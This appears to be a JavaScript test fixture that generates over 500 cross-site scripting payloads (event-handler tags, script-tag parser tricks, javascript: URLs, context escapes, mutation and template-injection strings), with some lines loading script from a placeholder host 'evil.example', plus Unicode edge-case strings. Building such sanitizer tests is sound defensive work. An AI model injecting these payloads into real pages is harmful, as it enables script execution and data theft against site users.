// What somebody might send who wants to run something on other people's screens: over 500 texts, made by crossing ways of
// writing markup with what it would run. Each that ran would call `ran()`.

const RUN = "ran()";
const cross = (left, right, join) => left.flatMap((a) => right.map((b) => join(a, b)));

/** Elements that can run something by themselves or under a finger, with the handler that would do it. */
const HANDLERS = [
  ["img src=x", "onerror"], ["img srcset=x", "onerror"], ["image src=x", "onerror"], ["svg", "onload"], ["svg/onload=ran() x", "onload"], ["body", "onload"],
  ["video src=x", "onerror"], ["video><source", "onerror"], ["audio src=x", "onerror"], ["details open", "ontoggle"], ["input autofocus", "onfocus"],
  ["input type=image src=x", "onerror"], ["select autofocus", "onfocus"], ["textarea autofocus", "onfocus"], ["button autofocus", "onfocus"],
  ["a href=# tabindex=1 autofocus", "onfocus"], ["div tabindex=1 autofocus", "onfocus"], ["div style=animation:spin", "onanimationstart"],
  ["iframe", "onload"], ["object data=x", "onerror"], ["embed src=x", "onload"], ["link rel=stylesheet href=x", "onerror"], ["script src=x", "onerror"],
  ["style", "onload"], ["marquee", "onstart"], ["svg><animate attributeName=x dur=1s", "onbegin"], ["svg><set attributeName=x", "onbegin"],
  ["p", "onpointerenter"], ["div", "onmouseover"], ["x contenteditable autofocus", "onfocus"], ["body", "onhashchange"], ["dialog open", "onclose"],
];
/** Ways of writing such an element. */
const WRITTEN = [
  (tag, on) => `<${tag} ${on}=${RUN}>`,
  (tag, on) => `<${tag} ${on}="${RUN}">`,
  (tag, on) => `<${tag}/${on}='${RUN}'>`,
  (tag, on) => `<${tag.toUpperCase()} ${on.toUpperCase()}=${RUN}//`,
  (tag, on) => `<${tag}\n${on}\n=\n${RUN}\n>`,
  (tag, on) => `<${tag} ${on}=&#114;&#97;&#110;&#40;&#41;>`,
  (tag, on) => `"><${tag} ${on}=\\u0072an()>`,
];
/** Elements with script inside, as parsers of all ages read them. */
const SCRIPTS = [
  "<script>ran()</script>", "<SCRIPT>ran()</SCRIPT>", "<scr<script>ipt>ran()</scr</script>ipt>", "<script\n>ran()</script\n>", "<script/x>ran()</script>",
  "<script>ran()//", "<script>ran()<!--", "<<script>ran()//<</script>", "<script type=module>ran()</script>", "<script src=data:,ran()></script>",
  "<script src=//evil.example/x></script>", "<script>/*</script>*/ran()</script>", "<svg><script>ran()</script></svg>", "<svg><script href=data:,ran() /></svg>",
  "<math><mtext><script>ran()</script>", "<template><script>ran()</script></template>", "<noscript><script>ran()</script></noscript>", "<xmp><script>ran()</script></xmp>",
  "<iframe srcdoc='<script>parent.ran()</script>'>", "<iframe srcdoc=&lt;script&gt;parent.ran()&lt;/script&gt;>", "<object data=data:text/html,<script>ran()</script>>",
  "<embed src=data:text/html,<script>ran()</script>>", "<meta http-equiv=refresh content=0;url=javascript:ran()>", "<base href=//evil.example/>",
  "<link rel=import href=data:text/html,<script>ran()</script>>", "<style>@import'javascript:ran()';</style>", "<style>*{background:url(javascript:ran())}</style>",
  "<div style=width:expression(ran())>", "<?xml version=1.0?><script>ran()</script>", "<![CDATA[<script>ran()</script>]]>", "<!--><script>ran()</script>-->",
  "<!-- --!><script>ran()</script>", "</p><script>ran()</script>", "<isindex action=javascript:ran() type=submit>", "<form><button formaction=javascript:ran()>x</button></form>",
];
/** Addresses that are programs, and where an address can stand. */
const ADDRESSES = [
  "javascript:ran()", "JaVaScRiPt:ran()", "java\nscript:ran()", " javascript:ran()", "javascript&colon;ran()", "&#106;avascript:ran()", "data:text/html,<script>ran()</script>",
  "vbscript:ran()", "javascript://%0aran()", "//evil.example/%0aran()", "feed:javascript:ran()", "view-source:javascript:ran()",
];
const PLACES = [
  (to) => `<a href="${to}">click</a>`, (to) => `<iframe src='${to}'>`, (to) => `<form action="${to}"><input type=submit>`, (to) => `<object data='${to}'>`,
  (to) => `<svg><a xlink:href="${to}"><text y=9>x</text></a></svg>`, (to) => `<math href="${to}">x</math>`, (to) => `[click](${to})`,
];
/** Ways out of where a text may stand, and what comes then. */
const WAYS_OUT = [
  '"', "'", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>", "</template>", "</noscript>", "</option></select>", "]]>", "`", "\\", "\\\"", "*/", "</svg>",
  "&quot;&gt;", "%22%3E", "</a>", "<!--", "}}", "</blockquote></li></ol>",
];
const OUTSIDE = ["<img src=x onerror=ran()>", "<svg onload=ran()>", " autofocus onfocus=ran() x=", "<script>ran()</script>", ";ran()//", "ran()"];
/** Markup that turns into other markup when it is read twice, and what template languages would run. */
const TWICE = [
  "<noscript><p title='</noscript><img src=x onerror=ran()>'>", "<svg></p><style><a id='</style><img src=x onerror=ran()>'>", "<math><mi><table><mglyph><style><img src=x onerror=ran()>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>", "<svg><desc><table><thead><s></desc><img src=x onerror=ran()>", "<listing>&lt;img src=x onerror=ran()&gt;</listing>",
  "&lt;img src=x onerror=ran()&gt;", "&amp;lt;img src=x onerror=ran()&amp;gt;", "%3Cimg src=x onerror=ran()%3E", "\\x3cimg src=x onerror=ran()\\x3e", "\\u003cimg src=x onerror=ran()\\u003e",
  "+ADw-img src=x onerror=ran()+AD4-", "＜img src=x onerror=ran()＞", "‹img src=x onerror=ran()›", "<img\u0000 src=x onerror=ran()>", "<im\u0000g src=x onerror=ran()>", "¼script¾ran()¼/script¾",
  "{{constructor.constructor('ran()')()}}", "${ran()}", "#{ran()}", "<%= ran() %>", "[[ran()]]", "{%raw%}ran()", "{{7*7}}<x ng-app>{{$on.constructor('ran()')()}}", "<div v-html=ran()>", "<div x-data x-init=ran()>",
  "<div hx-on:load=ran()>", "<x data-send action=javascript:ran()>", "0 <section id=answer>ran()</section>", "<form id=location><input name=href>", "<img name=openfloor>", "<a id=words data-x=1>",
];

/** Texts that would run something. */
export const MARKUP = [...new Set([
  ...cross(HANDLERS, WRITTEN, ([tag, on], write) => write(tag, on)), ...SCRIPTS, ...cross(ADDRESSES, PLACES, (to, place) => place(to)),
  ...cross(WAYS_OUT, OUTSIDE, (out, then) => out + then), ...TWICE,
])];

/** Texts that would garble what stands around them, and what must come back as it went. */
export const TURNS = {
  override: "abc\u202edef\u202c end", isolate: "\u2067abc end", marks: `a${"\u0316\u0301".repeat(200)}z`, hidden: "pass\u200bword\u2060\u00ad\ufeff", unseen: "\u200b\u2063",
  arabic: "شكرا لكم جميعا", hebrew: "תודה לכולם, 5", mixed: "say شكرا (5) to all", emoji: "👩🏽‍⚕️🏴\u{e0067}\u{e0062}\u{e0077}\u{e006c}\u{e0073}\u{e007f} 👍🏿", long: "W".repeat(500),
};
